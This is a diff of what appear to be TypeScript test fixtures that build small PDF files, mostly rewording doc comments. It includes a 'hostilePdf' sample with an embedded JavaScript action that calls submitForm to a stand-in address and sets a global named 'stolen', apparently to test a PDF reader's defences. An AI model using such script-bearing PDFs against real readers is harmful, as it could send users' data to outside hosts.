@@ -1,4 +1,7 @@
-/** A PDF of these objects, numbered from 1; the first is the catalogue. Readers find them without a table. */
+/**
+ * A PDF of these objects, numbered from 1. The first one is the catalogue. The file has no cross-reference table, which
+ * readers do without.
+ */
 function pdfOf(objects: readonly string[]): Buffer {
   const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj`).join('\n');
   return Buffer.from(`%PDF-1.7\n${body}\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`);
@@ -20,7 +23,7 @@ export function drawnPdf(): Buffer {
   ]);
 }
 
-/** Runs a script and leads away wherever a reader lets it, on a page of 200 metres by 200. */
+/** A PDF that runs scripts and opens addresses wherever a reader lets it. Its page is 200 metres wide and high. */
 export function hostilePdf(): Buffer {
   const script =
     '<</S/JavaScript/JS(app.alert("document"); this.submitForm("https://example.com/"); globalThis.stolen = 1;)>>';
